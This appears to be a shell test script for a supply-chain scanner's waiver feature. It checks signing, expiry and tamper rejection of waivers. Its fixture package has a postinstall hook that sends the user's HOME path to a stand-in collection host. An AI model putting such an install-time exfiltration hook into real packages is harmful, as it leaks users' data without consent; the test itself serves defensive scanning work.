# Waivers: signed by an assessor, bound to check, key and bytes, expiring; whatever is not so is told and changes nothing.
. tests/tap.sh
export HOME=$scratch/home
cd "$scratch" || exit 1
mkdir -p home trust prod
printf '{"name":"twin","version":"1.0.1","scripts":{"postinstall":"node index.js"}}\n' >prod/package.json
printf "require('https').get('http://collect.vendor-host.net/v1?' + process.env.HOME);\n" >prod/index.js
tar --owner=0 --group=0 --mtime=@0 --sort=name -cf prod.tar prod
key() { # NAME ROLE
  "$PROBITY" pack key new -W -s "$1.key" -p "$1.pub" && "$PROBITY" trust add "$1.pub" --role "$2" --trust "$scratch/trust" --name "$1"
}
ok "keys" eval "key assessor assessor >/dev/null && key vendor vendor >/dev/null"
sign() { # FILE KEY: a detached minisign signature
  rm -f "$1.minisig"
  minisign -S -W -s "$2.key" -m "$1" >/dev/null 2>&1 || minisign -S -s "$2.key" -m "$1" </dev/null >/dev/null 2>&1
}
scan prod.tar && printf '%s\n' "$out" >plain.json
plain=$(get 'r["score"]["trust_tenths"]')
check=$(get 'r["findings"][0]["check"]') key=$(get 'r["findings"][0]["key"]')
is "without waivers there is no such part" "$(get '"waivers" in r')" false
ok "a waiver" "$PROBITY" waive plain.json --check "$check" --key "$key" --reason "Known; behind a proxy" --expires 2027-01-31 --owner "J. Doe" \
  --issued 2026-11-20 -o waiver.json
mkdir -p signed && cp waiver.json signed/ && sign signed/waiver.json assessor
ok "minisign signs it" test -s signed/waiver.json.minisig

waived() { scan --trust "$scratch/trust" --waivers signed "$@" prod.tar; }
waived
is "an assessor's waiver counts" "$(get '[[w["applied"], w["why"]] for w in r["waivers"]]')" '[[true, ""]]'
is "... its finding says so" "$(get '[f["waived"] for f in r["findings"] if f["waived"]]')" '["Known; behind a proxy (J. Doe, until 2027-01-31)"]'
is "... trust rises" "$(get "r['score']['trust_tenths'] > $plain")" true
is "... and what it is without is told" "$(get 'r["score"]["unwaived_trust_tenths"]')" "$plain"
is "... with a digest" "$(get 'len(r["assessment"]["waivers_digest"])')" 64
printf '%s\n' "$out" >waived.json
status "verify holds it, alone" 0 "$PROBITY" verify waived.json
status "... and with the product" 0 "$PROBITY" verify --database "$scratch/db" --trust "$scratch/trust" --waivers signed waived.json prod.tar
status "... not without the waivers" 1 "$PROBITY" verify --database "$scratch/db" waived.json prod.tar
like "... which is named" "$out" "waivers"
run "$PROBITY" scan --no-cache --as-of 2026-11-21 --database "$scratch/db" --trust "$scratch/trust" --waivers signed prod.tar
like "the text tells of it" "$out" "without the waivers"
sed 's/"applied":true/"applied":false/' waived.json >lie.json
status "a waiver that is said not to count" 1 "$PROBITY" verify -f json lie.json
like "... the finding that relied on it is named" "$out" 'waived"'
sed 's/behind a proxy/behind a praxy/' waived.json >lie.json
status "another reason" 1 "$PROBITY" verify -f json lie.json

# --- what does not count changes nothing, and is told
refused() { # NAME WHY
  is "$1: trust is as without" "$(get 'r["score"]["trust_tenths"]')" "$plain"
  is "... nothing is waived" "$(get '[f["waived"] for f in r["findings"] if f["waived"]]')" "[]"
  like "... told why" "$(get '[w["why"] for w in r["waivers"]]')" "$2"
}
waived --as-of 2027-02-01
like "expired" "$(get '[w["why"] for w in r["waivers"]]')" "expired"
is "... nothing is waived" "$(get '[f["waived"] for f in r["findings"] if f["waived"]]')" "[]"
rm signed/waiver.json.minisig
waived
refused "unsigned" "no signature"
sign signed/waiver.json vendor
waived
refused "signed by the vendor" "no assessor"
sign signed/waiver.json assessor
sed -i 's/Known/Knawn/' signed/waiver.json
waived
refused "changed after it was signed" "no signature|nobody|holds"
change() { /usr/bin/python3 -c 'import json, sys
w = json.load(open("waiver.json"))
exec(sys.argv[1])
json.dump(w, open("signed/waiver.json", "w"))' "$1" && sign signed/waiver.json assessor; }
change 'w["waivers"][0]["sha256"] = "00" * 32'
waived
refused "another object" "not in an object with these bytes"
change 'w["waivers"][0]["key"] += "x"'
waived
refused "another key" "no such finding"
change 'w["waivers"][0]["sha256"] = "*"'
waived
refused "any object" "SHA-256 of one object"
change 'w["waivers"][0]["reason"] = " "'
waived
refused "no reason" "says nothing"
change 'w["waivers"][0]["expire"] = w["waivers"][0].pop("expires")'
waived
refused "an unknown field" "unknown field: expire"
"$PROBITY" trust add assessor.pub --role auditor --trust "$scratch/trust" --name again >/dev/null 2>&1
is "... and a key has one role" "$?" 2

# --- words
status "no such finding" 2 "$PROBITY" waive plain.json --check no.such --reason x --expires 2027-01-31 --owner me
like "... is named" "$err" "no.such has no finding"
status "a day that is past" 2 "$PROBITY" waive plain.json --check "$check" --reason x --expires 2020-01-31 --owner me
status "no reason" 2 "$PROBITY" waive plain.json --check "$check" --reason " " --expires 2027-01-31 --owner me
status "help" 0 "$PROBITY" waive --help
done_testing
